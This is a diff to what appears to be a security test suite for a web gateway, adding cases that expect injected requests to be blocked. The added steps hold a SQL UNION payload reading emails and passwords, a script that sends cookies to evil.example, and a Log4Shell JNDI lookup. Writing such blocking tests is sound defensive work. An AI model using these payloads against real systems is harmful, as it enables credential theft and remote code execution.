@@ -83,6 +83,23 @@ _MALFORMED = (
     Step("an escaped NUL", "GET", "/products/1%00.json", _KEY, expect="deny", status=400),
 )
 
+_UNION = "/search?q=%27%20UNION%20SELECT%20email,%20password,%20name,%201%20FROM%20users%20--%20"
+_SCRIPT = '{"user_id": 1, "items": [], "note": "<script>fetch(`//evil.example/${document.cookie}`)</script>"}'
+
+_INJECTED = (
+    Step("a search in plain words", "GET", "/search?q=select+the+best+lamp", _KEY),
+    Step("SQL in a search", "GET", _UNION, _KEY, expect="deny", status=403),
+    Step("a script in an order", "POST", "/orders", _KEY + _JSON, _SCRIPT, expect="deny", status=403),
+    Step(
+        "a look-up by log4j",
+        "GET",
+        "/products",
+        (*_KEY, ("user-agent", "${{jndi:ldap://evil.example/a}}")),
+        expect="deny",
+        status=403,
+    ),
+)
+
 _FORGED = (
     Step(
         "a forged identity does not arrive",
@@ -114,4 +131,4 @@ _BURST = (
     ),
 )
 
-STEPS: tuple[Step, ...] = _HONEST + _STRANGERS + _MALFORMED + _FORGED + _LEAKS + _BURST
+STEPS: tuple[Step, ...] = _HONEST + _STRANGERS + _MALFORMED + _INJECTED + _FORGED + _LEAKS + _BURST
